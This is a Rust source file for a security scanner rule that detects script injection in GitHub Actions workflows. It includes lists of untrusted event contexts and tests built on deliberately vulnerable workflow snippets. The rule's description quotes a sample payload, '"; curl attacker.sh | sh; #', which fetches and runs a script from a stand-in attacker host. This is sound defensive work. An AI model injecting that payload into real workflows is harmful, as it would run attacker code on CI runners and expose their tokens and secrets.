//! Untrusted event data interpolated into scripts.

use super::{ActionRef, expressions, steps};
use crate::model::{Format, Node, Resource};
use crate::rules::{Context, Hit, IacRule};
use bulwark_core::{Rule, Scanner, Severity};

/// ## What it finds
/// `${{ … }}` in a step's `run:` (or an `actions/github-script` `script:`) that reads a context
/// an outsider controls, per GitHub's list: issue / pull request / discussion title and body,
/// comment and review bodies, `github.head_ref` and `pull_request.head.ref`/`head.label`/
/// `head.repo.default_branch`, commit messages and author names/emails (`head_commit`,
/// `commits.*`), `pages.*.page_name`, `workflow_run.head_branch` and its head commit.
pub static SCRIPT_INJECTION_RULE: Rule = Rule {
    id: "iac.github-actions.script-injection",
    title: "Untrusted input interpolated into a `run` script",
    scanner: Scanner::Iac,
    severity: Severity::High,
    cwe: &["CWE-78", "CWE-94"],
    owasp: &["A03:2021"],
    controls: &["nist-ssdf:PO.5.1", "pci-dss-4.0.1:6.2.4"],
    description: "A `${{ }}` expression that reads attacker-controlled event data (an issue or \
        pull request title, a comment, a branch name, a commit message) is pasted into a shell \
        script before it runs. Anyone who can open an issue or a pull request can write \
        `\"; curl attacker.sh | sh; #` there and run commands on the runner with the job's token \
        and secrets.",
    remediation: "Never expand untrusted contexts inside the script; pass them through an \
        environment variable and quote it, so the shell treats it as data:\n\n```yaml\n- env:\n\
        \x20   TITLE: ${{ github.event.pull_request.title }}\n  run: echo \"$TITLE\"\n```\n\n\
        For `actions/github-script`, read `context.payload` inside the script instead of \
        interpolating.",
    references: &[
        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
    ],
};

pub static SCRIPT_INJECTION: IacRule = IacRule {
    rule: &SCRIPT_INJECTION_RULE,
    format: Format::GithubActions,
    kinds: &["job"],
    check: script_injection,
};

/// Field names (last segments) of event data an outsider controls.
const UNTRUSTED_SUFFIXES: &[&str] = &[
    ".title",
    ".body",
    ".page_name",
    ".message",
    ".author.email",
    ".author.name",
    ".committer.email",
    ".committer.name",
    ".head.ref",
    ".head.label",
    ".head.repo.default_branch",
    ".head_branch",
];

/// Whole event objects that contain such fields (`toJSON(github.event.issue)`).
const UNTRUSTED_OBJECTS: &[&str] = &[
    "github.event",
    "github.event.issue",
    "github.event.pull_request",
    "github.event.comment",
    "github.event.review",
    "github.event.review_comment",
    "github.event.discussion",
    "github.event.head_commit",
    "github.event.commits",
    "github.event.pages",
];

/// The untrusted context an expression reads, if any.
pub(crate) fn untrusted_context(expression: &str) -> Option<String> {
    let normalised: String = expression
        .replace("[*]", ".*")
        .chars()
        .map(|c| if c == '[' || c == ']' { '.' } else { c })
        .collect();
    normalised
        .split(|c: char| !(c.is_ascii_alphanumeric() || "_.*-".contains(c)))
        .map(|w| w.trim_end_matches('.'))
        .find(|path| {
            let lower = path.to_ascii_lowercase();
            lower == "github.head_ref"
                || (lower.starts_with("github.event.")
                    && UNTRUSTED_SUFFIXES.iter().any(|s| lower.ends_with(s)))
                || UNTRUSTED_OBJECTS.contains(&lower.as_str())
        })
        .map(str::to_string)
}

/// The first untrusted context interpolated in `text`.
fn first_untrusted(text: &str) -> Option<String> {
    expressions(text).into_iter().find_map(untrusted_context)
}

fn script_injection(_: &Context<'_>, job: &Resource) -> Vec<Hit> {
    let mut out = Vec::new();
    for step in steps(&job.body) {
        let script: Option<&Node> = step.get("run").or_else(|| {
            let uses = step.get("uses")?.as_str()?;
            (ActionRef::parse(uses).name() == "actions/github-script")
                .then(|| step.at(&["with", "script"]))
                .flatten()
        });
        let Some(script) = script else { continue };
        let Some(text) = script.as_str() else {
            continue;
        };
        if let Some(context) = first_untrusted(text) {
            out.push(Hit::new(
                script.span,
                format!(
                    "`${{{{ {context} }}}}` is attacker-controlled and expanded into the script"
                ),
            ));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::hits;

    const PATH: &str = ".github/workflows/triage.yml";

    #[test]
    fn injection_fires() {
        let text = "on: [issues, pull_request]\njobs:\n  t:\n    runs-on: x\n    steps:\n      - run: |\n          echo \"Title: ${{ github.event.issue.title }}\"\n      - run: git checkout ${{ github.head_ref }}\n      - uses: actions/github-script@v7\n        with:\n          script: console.log('${{ github.event.commits[0].message }}')\n";
        let h = hits(&SCRIPT_INJECTION, PATH, text);
        assert_eq!(h.len(), 3, "{h:?}");
        // A block scalar's span starts at its first content line.
        assert_eq!(h[0].span.start.line, 7);
        assert!(h[0].message.contains("github.event.issue.title"));
    }

    #[test]
    fn injection_negative() {
        let text = "on: pull_request\njobs:\n  t:\n    runs-on: x\n    steps:\n      - env:\n          TITLE: ${{ github.event.pull_request.title }}\n        run: echo \"$TITLE\" ${{ github.event.pull_request.number }} ${{ github.sha }}\n";
        assert!(hits(&SCRIPT_INJECTION, PATH, text).is_empty());
    }

    #[test]
    fn contexts() {
        for (e, want) in [
            ("github.event.pull_request.head.ref", true),
            ("toJSON(github.event.issue)", true),
            ("github.event.pages[0].page_name", true),
            ("github.event.review.body || 'x'", true),
            ("github.event.pull_request.head.sha", false),
            ("github.event.issue.number", false),
            ("github.ref_name", false),
        ] {
            assert_eq!(untrusted_context(e).is_some(), want, "{e}");
        }
    }
}
